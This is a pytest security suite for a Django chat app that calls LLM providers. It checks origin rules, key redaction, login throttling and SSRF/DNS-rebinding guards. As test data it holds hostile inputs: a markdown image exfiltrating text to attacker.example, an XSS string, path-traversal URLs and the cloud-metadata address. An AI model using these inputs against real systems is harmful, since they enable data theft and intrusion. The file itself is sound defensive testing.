"""Security: keys never shown, sockets that honour logout, origins checked strictly."""

from __future__ import annotations

import json
from datetime import timedelta

import pytest
from channels.db import database_sync_to_async
from channels.testing import WebsocketCommunicator
from django.conf import settings
from django.contrib.auth.hashers import make_password
from django.contrib.auth.models import Permission
from django.contrib.sessions.models import Session
from django.test import Client
from django.utils import timezone

from chat.models import Message, User
from providers import catalog
from providers.bootstrap import sync_env_connections
from providers.models import ProviderConnection

SECRET = "sk-live-abcdefghijklmnopqrstuvwxyz123456"


def _login_cookie(user: User) -> tuple[Client, str]:
    client = Client()
    client.force_login(user)
    value = client.cookies[settings.SESSION_COOKIE_NAME].value
    return client, f"{settings.SESSION_COOKIE_NAME}={value}"


async def _open(conversation_id, cookie, *, origin="http://127.0.0.1", host="127.0.0.1"):
    from project.asgi import application

    headers = [(b"origin", origin.encode()), (b"host", host.encode()), (b"cookie", cookie.encode())]
    communicator = WebsocketCommunicator(application, f"/ws/c/{conversation_id}/", headers=headers)
    connected, _ = await communicator.connect(timeout=5)
    return communicator, connected


async def _closed_with(communicator) -> int:
    output = await communicator.receive_output(timeout=3)
    while output["type"] != "websocket.close":
        output = await communicator.receive_output(timeout=3)
    return output.get("code", 1000)


@pytest.mark.integration
@pytest.mark.django_db(transaction=True)
class TestSocketsHonourAccess:
    async def test_logging_out_closes_the_sockets_of_that_session(self, owner, conversation):
        client, cookie = await database_sync_to_async(_login_cookie)(owner)
        socket, connected = await _open(conversation.pk, cookie)
        assert connected
        await socket.receive_nothing(0.2)
        await database_sync_to_async(client.post)("/logout/")
        assert await _closed_with(socket) == 1008

    async def test_deactivating_or_unapproving_a_user_closes_their_sockets(
        self, owner, conversation
    ):
        _, cookie = await database_sync_to_async(_login_cookie)(owner)
        socket, _ = await _open(conversation.pk, cookie)
        await socket.receive_nothing(0.2)
        owner.is_approved = False
        await database_sync_to_async(owner.save)()
        assert await _closed_with(socket) == 1008

    @pytest.mark.parametrize("ended_by", ["deleted", "expired", "password changed"])
    async def test_a_send_on_a_socket_whose_session_ended_is_refused_and_not_stored(
        self, owner, conversation, ended_by
    ):
        client, cookie = await database_sync_to_async(_login_cookie)(owner)
        socket, _ = await _open(conversation.pk, cookie)
        await socket.receive_nothing(0.2)

        # The session ends without a signal (an admin, the clock, another process).
        def end_session() -> None:
            key = client.session.session_key
            if ended_by == "deleted":
                Session.objects.filter(session_key=key).delete()
            elif ended_by == "expired":
                past = timezone.now() - timedelta(seconds=1)
                Session.objects.filter(session_key=key).update(expire_date=past)
            else:
                User.objects.filter(pk=owner.pk).update(password=make_password("a new one"))

        await database_sync_to_async(end_session)()
        await socket.send_to(text_data=json.dumps({"action": "send", "message": "hi"}))
        assert await _closed_with(socket) == 1008
        stored = await database_sync_to_async(Message.objects.filter(role="user").count)()
        assert stored == 0

    @pytest.mark.parametrize(
        ("origin", "host"),
        [
            ("http://127.0.0.1:9999", "127.0.0.1:8000"),  # same host, another port
            ("https://127.0.0.1:8000", "127.0.0.1:8000"),  # scheme does not match
            ("http://evil.example", "127.0.0.1"),
            ("null", "127.0.0.1"),
        ],
    )
    async def test_a_socket_from_another_origin_is_refused(self, owner, conversation, origin, host):
        _, cookie = await database_sync_to_async(_login_cookie)(owner)
        _, connected = await _open(conversation.pk, cookie, origin=origin, host=host)
        assert not connected

    async def test_the_sites_own_origin_with_its_port_is_accepted(self, owner, conversation):
        _, cookie = await database_sync_to_async(_login_cookie)(owner)
        socket, connected = await _open(
            conversation.pk, cookie, origin="http://127.0.0.1:8000", host="127.0.0.1:8000"
        )
        assert connected
        await socket.disconnect()


@pytest.mark.django_db
class TestKeysNeverShown:
    def test_view_only_staff_never_see_a_stored_key(self, client, teammate):
        connection = ProviderConnection(
            name="Mine", kind=catalog.MINIMAX_OPENAI, base_url="https://api.minimax.io/v1"
        )
        connection.set_api_key(SECRET)
        connection.save()
        teammate.is_staff = True
        teammate.save()
        teammate.user_permissions.add(Permission.objects.get(codename="view_providerconnection"))
        client.force_login(teammate)
        page = client.get(f"/admin/providers/providerconnection/{connection.pk}/change/")
        assert page.status_code == 200
        assert SECRET not in page.content.decode()
        assert "Stored, encrypted" in page.content.decode()

    def test_env_managed_connections_show_no_key_to_superusers(self, client, owner, settings):
        settings.MINIMAX_API_KEY = SECRET
        sync_env_connections()
        owner.is_staff = owner.is_superuser = True
        owner.save()
        client.force_login(owner)
        for connection in ProviderConnection.objects.all():
            page = client.get(f"/admin/providers/providerconnection/{connection.pk}/change/")
            assert page.status_code == 200 and SECRET not in page.content.decode()

    def test_dumpdata_does_not_contain_keys(self, settings, capsys):
        from django.core.management import call_command

        settings.MINIMAX_API_KEY = SECRET
        sync_env_connections()
        call_command("dumpdata", "providers")
        assert SECRET not in capsys.readouterr().out


@pytest.mark.django_db
class TestThrottling:
    def test_five_wrong_passwords_lock_the_username_even_with_the_right_one(self, client, owner):
        codes = [
            client.post("/login/", {"username": "owner", "password": "wrong"}).status_code
            for _ in range(5)
        ]
        assert codes == [200, 200, 200, 200, 429]  # the fifth failure locks
        response = client.post("/login/", {"username": "owner", "password": "s3cret-pass-word"})
        assert response.status_code == 429
        assert "Try again in 15 minutes" in response.content.decode()
        assert "_auth_user_id" not in client.session

    def test_failures_from_one_ip_lock_it_whatever_the_username(self, client, owner):
        for attempt in range(5):
            client.post("/login/", {"username": f"nobody{attempt}", "password": "x"})
        response = client.post("/login/", {"username": "owner", "password": "s3cret-pass-word"})
        assert response.status_code == 429

    def test_a_right_password_before_the_limit_still_works(self, client, owner):
        for _ in range(3):
            client.post("/login/", {"username": "owner", "password": "wrong"})
        response = client.post("/login/", {"username": "owner", "password": "s3cret-pass-word"})
        assert response.status_code == 302

    def test_sign_ups_from_one_address_are_limited(self, client, owner, settings):
        settings.SIGNUP_MODE = "open"
        codes = [
            client.post(
                "/signup/",
                {"username": f"user{n}", "password1": "a-long-pass-99", "password2": "x"},
            ).status_code
            for n in range(settings.SIGNUP_RATE_LIMIT + 1)
        ]
        assert codes[-1] == 429 and 429 not in codes[:-1]


@pytest.mark.django_db
def test_view_only_staff_cannot_approve_users(client, teammate, outsider):
    teammate.is_staff = True
    teammate.save()
    teammate.user_permissions.add(Permission.objects.get(codename="view_user"))
    client.force_login(teammate)
    page = client.get("/admin/chat/user/")
    assert page.status_code == 200 and "Approve selected users" not in page.content.decode()
    client.post(
        "/admin/chat/user/",
        {"action": "approve", "_selected_action": [outsider.pk], "index": 0},
    )
    outsider.refresh_from_db()
    assert not outsider.is_approved


@pytest.mark.django_db
def test_every_page_carries_a_strict_content_security_policy(client, owner):
    client.force_login(owner)
    policy = client.get("/")["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "unsafe-inline" not in policy.split("style-src")[0]
    assert "img-src 'self' data:" in policy


def test_markdown_images_from_other_hosts_become_links():
    from chat.markdown import render_markdown

    html = str(render_markdown("![chart](https://attacker.example/?d=secret+text)"))
    assert "<img" not in html
    assert 'href="https://attacker.example/?d=secret+text"' in html and "chart (image)" in html
    assert "<img" in str(render_markdown("![ok](data:image/png;base64,iVBORw0KGgo=)"))


def test_streamed_text_is_escaped_in_its_delta_frame():
    import html

    from chat.rendering import delta_frame
    from tests.streams import DELTA

    hostile = "<script>alert('x')</script> & \"quoted\" <img src=x onerror=y>"
    frame = delta_frame("m-7-text", offset=3, text=hostile)
    assert "<script" not in frame and "<img" not in frame
    match = DELTA.fullmatch(frame)
    assert match is not None and (match["target"], match["offset"], match["end"]) == (
        "m-7-text",
        "3",
        str(3 + len(hostile)),
    )
    assert html.unescape(match["text"]) == hostile


@pytest.mark.parametrize(
    ("address", "public"),
    [
        ("127.0.0.1", False),
        ("10.1.2.3", False),
        ("172.16.0.1", False),
        ("192.168.1.1", False),
        ("169.254.169.254", False),  # cloud metadata
        ("100.64.0.1", False),  # CGNAT
        ("0.0.0.0", False),
        ("::1", False),
        ("::ffff:127.0.0.1", False),
        ("fe80::1", False),
        ("fd00::1", False),
        ("8.8.8.8", True),
        ("2606:4700:4700::1111", True),
    ],
)
def test_only_public_addresses_are_called(address, public):
    from providers.clients.netguard import is_public

    assert is_public(address) is public


@pytest.mark.django_db
@pytest.mark.parametrize(
    "base_url",
    ["http://127.0.0.1:8765/v1", "http://[::ffff:127.0.0.1]/v1", "http://10.0.0.5/v1"],
)
def test_the_admin_refuses_a_private_base_url(client, owner, base_url):
    owner.is_staff = owner.is_superuser = True
    owner.save()
    client.force_login(owner)
    response = client.post(
        "/admin/providers/providerconnection/add/",
        {
            "name": "Internal",
            "kind": catalog.MINIMAX_OPENAI,
            "base_url": base_url,
            "api_key": SECRET,
            "enabled": "on",
            "cloudflare_style": "run",
        },
    )
    assert response.status_code == 200
    assert "private or local network" in response.content.decode()
    assert not ProviderConnection.objects.filter(name="Internal").exists()


@pytest.mark.django_db
def test_the_operator_may_allow_private_base_urls(client, owner, settings):
    settings.UPSTREAM_ALLOW_PRIVATE = True
    owner.is_staff = owner.is_superuser = True
    owner.save()
    client.force_login(owner)
    response = client.post(
        "/admin/providers/providerconnection/add/",
        {
            "name": "Gateway",
            "kind": catalog.MINIMAX_OPENAI,
            "base_url": "http://127.0.0.1:8765/v1",
            "api_key": SECRET,
            "enabled": "on",
            "cloudflare_style": "run",
        },
    )
    assert response.status_code == 302


async def test_a_guarded_client_never_connects_to_a_private_address_even_after_rebinding(sim):
    """The admin's check passed once; at call time the name resolves privately: refused,
    with the same sentence as any unreachable provider, and nothing reached the server."""
    from providers.clients.errors import UpstreamConnectionError
    from providers.clients.http import UNREACHABLE
    from providers.clients.minimax_openai import MiniMaxOpenAIClient
    from providers.clients.netguard import GuardedTransport
    from providers.clients.types import ChatMessage, ChatRequest

    before = len(sim.requests)
    for base_url in (sim.base_url, sim.base_url.replace("127.0.0.1", "localhost")):
        client = MiniMaxOpenAIClient(
            base_url=f"{base_url}/minimax/v1", api_key=SECRET, transport=GuardedTransport()
        )
        request = ChatRequest(
            model="MiniMax-M2.7", messages=(ChatMessage(role="user", content="hi"),)
        )
        with pytest.raises(UpstreamConnectionError) as caught:
            async for _ in client.stream(request):
                pass
        assert str(caught.value) == UNREACHABLE
    assert len(sim.requests) == before


async def test_kept_connections_to_a_private_address_never_serve_a_guarded_client(sim, settings):
    """The operator's own connections (the demo here) may keep a connection to loopback
    open; an admin-entered one to the same address is still refused: kept connections
    are pooled apart."""
    from providers import registry
    from providers.clients.errors import UpstreamConnectionError
    from providers.clients.minimax_openai import MiniMaxOpenAIClient
    from providers.clients.types import ChatMessage, ChatRequest

    settings.UPSTREAM_KEEPALIVE_SECONDS = 30.0
    request = ChatRequest(model="MiniMax-M2.7", messages=(ChatMessage(role="user", content="hi"),))
    url = f"{sim.base_url}/minimax/v1"
    operators = registry.shared_pool(guarded=False)
    admins = registry.shared_pool(guarded=True)
    try:
        async for _ in MiniMaxOpenAIClient(
            base_url=url, api_key=SECRET, transport=operators
        ).stream(request):
            pass
        with pytest.raises(UpstreamConnectionError):
            async for _ in MiniMaxOpenAIClient(
                base_url=url, api_key=SECRET, transport=admins
            ).stream(request):
                pass
    finally:
        await registry.close_upstream_connections()
    assert len(sim.requests) == 1


async def test_a_refused_port_and_an_open_one_look_the_same_to_users():
    from providers.clients.errors import UpstreamConnectionError
    from providers.clients.http import UNREACHABLE
    from providers.clients.minimax_openai import MiniMaxOpenAIClient
    from providers.clients.types import ChatMessage, ChatRequest

    request = ChatRequest(model="MiniMax-M2.7", messages=(ChatMessage(role="user", content="hi"),))
    client = MiniMaxOpenAIClient(base_url="http://127.0.0.1:9/v1", api_key=SECRET)
    with pytest.raises(UpstreamConnectionError) as caught:
        async for _ in client.stream(request):
            pass
    assert str(caught.value) == UNREACHABLE


@pytest.mark.django_db
def test_a_non_numeric_parameter_is_refused_with_a_visible_reason(client, owner, conversation):
    client.force_login(owner)
    response = client.post(
        f"/c/{conversation.pk}/settings/",
        {"model": conversation.model, "temperature": "warm", "top_p": "", "max_output_tokens": ""},
        HTTP_HX_REQUEST="true",
    )
    assert response.status_code == 422
    assert "Temperature: Enter a number." in response.content.decode()


async def test_a_static_path_that_escapes_the_static_root_is_a_404_not_a_500():
    from channels.testing import ApplicationCommunicator

    from project.asgi import application

    for path in ("/static/..%2f..%2fmanage.py", "/static/../../manage.py"):
        scope = {
            "type": "http",
            "http_version": "1.1",
            "method": "GET",
            "path": path,
            "raw_path": path.encode(),
            "query_string": b"",
            "scheme": "http",
            "headers": [(b"host", b"127.0.0.1")],
            "server": ("127.0.0.1", 80),
            "client": ("127.0.0.1", 1234),
        }
        communicator = ApplicationCommunicator(application, scope)
        await communicator.send_input({"type": "http.request", "body": b""})
        start = await communicator.receive_output(5)
        body = await communicator.receive_output(5)
        assert start["status"] == 404 and b"manage" not in body.get("body", b"")
        await communicator.send_input({"type": "http.disconnect"})
        await communicator.wait(timeout=5)


@pytest.mark.django_db
def test_a_stored_key_that_no_longer_decrypts_is_replaced_from_the_environment(settings):
    settings.MINIMAX_API_KEY = SECRET
    sync_env_connections()
    settings.ENCRYPTION_KEYS = ["Vt5c0ZBfZm8bL8kIY3y8O5gL9Y0nB8oEw0nq8cT0b4Q="]
    sync_env_connections()  # after a SECRET_KEY change: no traceback
    assert {c.api_key() for c in ProviderConnection.objects.all()} == {SECRET}
